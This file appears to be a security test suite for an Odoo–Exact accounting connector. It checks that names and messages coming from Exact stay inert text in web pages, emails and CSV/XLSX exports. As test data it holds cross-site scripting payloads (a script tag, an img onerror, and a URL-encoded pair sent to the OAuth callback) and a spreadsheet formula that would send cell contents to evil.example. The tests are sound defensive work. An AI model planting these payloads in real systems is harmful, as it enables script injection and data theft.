"""Words from Exact stay words: in pages, the chatter, notices, mails and spreadsheets."""

import io
import json
import re
from unittest.mock import patch

from lxml import html
from markupsafe import Markup

from odoo.tests import HttpCase, tagged

from ..controllers.export import as_csv_text, as_text
from .sending import SendCase

PICTURE = '<img src="x" onerror="alert(1)">'
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Bakker")'


@tagged("post_install", "-at_install")
class TestSecurityMarkup(SendCase, HttpCase):
    def hostile(self, html_text):
        """Elements that a stranger's words have made: Odoo cleans messages too, but here none is to be made."""
        tree = html.fromstring(f"<div>{html_text or ''}</div>")
        return tree.xpath("//img | //script | //iframe | //*[@onload or @onclick or @onmouseover]")

    def assert_words_only(self):
        """All that this test has written where people read HTML."""
        self.env.flush_all()
        self.env.cr.execute(
            "SELECT body FROM mail_message WHERE create_date >= now() AT TIME ZONE 'UTC' - interval '1 hour'"
        )
        bodies = [row[0] for row in self.env.cr.fetchall()]
        self.assertTrue(any("alert(1)" in (body or "") for body in bodies), "told, as words")
        for body in bodies:
            self.assertFalse(self.hostile(body), body)
        for name, model in self.env.registry.items():
            if not name.startswith("exact.") or model._abstract:
                continue
            markup = [field for field in model._fields.values() if field.type == "html"]
            for field in markup:
                for record in self.env[name].sudo().search([]):
                    self.assertFalse(self.hostile(record[field.name]), f"{name}.{field.name}")

    def test_markup_from_exact_is_shown_as_words_everywhere(self):
        # Names of all that a document touches, as somebody may have typed them in Exact.
        for resource in ("vat/VATCodes", "logistics/Items", "financial/GLAccounts"):
            for row in self.division.tables[resource].rows.values():
                row["Description"] = PICTURE[:60]
        for row in self.division.tables["financial/Journals"].rows.values():
            row["Description"] = SCRIPT
        self.accountant("account", account="3", Name=PICTURE, City=SCRIPT)
        self.connection._refresh_reference_data()
        self.connection.action_import_customers()
        self.cron("ir_cron_process_exchanges")
        partner = self.env["res.partner"].search([("name", "=", PICTURE)])
        self.assertEqual(len(partner), 1, "kept as it is")
        # Refused in words of a stranger, then booked and looked at.
        move = self.invoice(partner=partner)
        self.fault("say", text=f"No {PICTURE} {SCRIPT}")
        notice = move.action_exact_create_sales_entry()
        self.assertEqual(move.exact_state, "failed")
        self.assertNotIsInstance(notice["params"]["message"], Markup)
        move.action_exact_create_sales_entry()
        self.assertEqual(move.exact_state, "done", move.exact_message)
        move.action_exact_way_out()
        self.connection.action_open_mapping()
        self.accountant("account", account="3", Name=PICTURE + "2")
        self.connection.action_import_customers()
        self.cron("ir_cron_process_exchanges")
        notices = self.env["exact.notice"]
        # Odoo itself takes scripts out of messages, and leaves pictures in.
        for words in (SCRIPT, PICTURE):
            notices._notify_user(self.env.user, words, words, move)
        self.env.user.write({"email": "a@example.com", "exact_failure_notice": "digest"})
        notices._keep(self.env.user, "reopened", self.company, f"{PICTURE} {SCRIPT}", None, None)
        with patch.object(self.env.registry["exact.notice"], "_is_worth_telling", lambda _n: True):
            self.cron("ir_cron_send_digest")
        mails = self.env["mail.mail"].sudo().search([("body_html", "like", "alert(1)")])
        self.assertTrue(mails.filtered(lambda mail: "Reopened in Exact" in mail.body_html))
        for mail in mails:
            self.assertFalse(self.hostile(mail.body_html), mail.body_html)
        self.assert_words_only()

    def test_markup_in_the_answer_to_a_consent_is_shown_as_words(self):
        self.authenticate("accountman", "accountman")
        self.connection.action_connect()
        state = self.env["exact.oauth.state"]._issue(
            self.connection.authorization_id, self.connection
        )
        self.env.flush_all()
        page = self.url_open(
            f"/exact_connector/oauth2/callback?state={state}&error=x"
            "&error_description=%3Cscript%3Ealert(1)%3C/script%3E%3Cimg%20src=x%20onerror=alert(1)%3E"
        )
        self.assertIn("alert(1)", html.fromstring(page.text).text_content())
        self.assertNotIn(SCRIPT, page.text)
        self.assertFalse(html.fromstring(page.text).xpath("//img[@onerror]"))
        self.assertEqual(page.headers["Referrer-Policy"], "no-referrer")
        # Nor does an address in the answer lead anybody elsewhere.
        for link in html.fromstring(page.text).xpath("//a/@href"):
            self.assertTrue(link.startswith(("/", "#")), link)

    def test_formula_in_a_name_of_exact_stays_text_in_exported_files(self):
        self.accountant("account", account="3", Name=FORMULA)
        self.connection.action_import_customers()
        self.cron("ir_cron_process_exchanges")
        partner = self.env["res.partner"].search([("name", "=", FORMULA)])
        self.assertEqual(len(partner), 1, "kept as it is")
        self.env.flush_all()
        self.env.user.group_ids += self.env.ref("base.group_allow_export")
        self.authenticate("accountman", "accountman")
        csv = self.export("csv", partner).content.decode()
        self.assertIn("\"'=HYPERLINK", csv)
        for groups in ([], ["country_id"], ["name"]):
            with self.subTest(groups=groups):
                cell = self.cell_with("HYPERLINK", self.export("xlsx", partner, groups).content)
                self.assertEqual(cell.data_type, "s", "a text, no formula")
                self.assertTrue(cell.value.startswith(f"'{FORMULA}"), cell.value)
        for begin in ("@SUM(A1)", "\tx", "\r=1"):
            self.assertEqual(as_csv_text(begin), f"'{begin}")
        for harmless in ("Bakker = Jansen", "+31 20", "-5", 5, None, "external bv"):
            self.assertEqual(as_text(harmless), harmless)

    def export(self, kind, records, groups=()):
        names = [("name", "Name"), ("city", "City")]
        data = {
            "model": records._name,
            "fields": [
                {"name": name, "label": label, "type": "char", "store": True}
                for name, label in names
            ],
            "ids": records.ids,
            "domain": [],
            "groupby": list(groups),
            "context": {},
            "import_compat": False,
        }
        token = self.csrf_token()
        answer = self.url_open(
            f"/web/export/{kind}", data={"data": json.dumps(data), "csrf_token": token}
        )
        self.assertEqual(answer.status_code, 200, answer.text[:500])
        return answer

    def csrf_token(self):
        page = self.url_open("/odoo").text
        return re.search(r'csrf_token: "([^"]+)"', page)[1]

    def cell_with(self, word, content):
        from openpyxl import load_workbook

        sheet = load_workbook(io.BytesIO(content)).active
        return next(
            cell for row in sheet.iter_rows() for cell in row if word in str(cell.value or "")
        )
